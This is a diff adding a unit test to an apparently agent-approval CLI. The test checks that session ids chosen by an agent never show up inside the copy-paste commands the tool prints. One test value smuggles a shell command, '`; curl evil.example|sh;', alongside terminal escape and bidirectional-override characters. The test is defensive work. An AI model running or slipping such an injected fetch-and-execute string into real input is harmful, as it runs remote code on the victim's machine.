@@ -9,6 +9,7 @@ import tempfile
 from collections.abc import AsyncIterator
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from tests.unit.cli.front import Front
@@ -151,6 +152,21 @@ async def test_whoever_revokes_an_agents_last_key_is_told_of_its_open_questions(
     )
     assert "2 questions withdrawn" in await told(front, "stop", "s1")
     assert await told(front, "key", "revoke", second) == f"{second} is revoked.\n"
+
+
+async def test_the_words_of_an_agent_reach_no_command_to_copy(front: Front, served: World) -> None:
+    agent, approver = await served.pair()
+    odd = ["s1`; curl evil.example|sh; \x9b31m\u202eabc", "--json", "a b"]
+    for session in (*odd, "plain-1"):
+        await agent("PUT", f"/v1/sessions/{quote(session, safe='')}", {"kind": "api"})
+        await approver("PUT", f"/v1/sessions/{quote(session, safe='')}/notifiers/desk")
+        await agent.ask(session=session)
+    listed: Any = await asyncio.to_thread(lambda: front.json("key", "list"))
+    [first] = [row["id"] for row in listed["data"] if row["scope"] == "agent"]
+    assert (await told(front, "key", "revoke", first)).endswith(
+        " Withdraw them with `signoff stop plain-1`, `signoff stop SESSION` for those with other ids in "
+        "`signoff pending --json`.\n"
+    )
 
 
 @pytest.mark.parametrize(
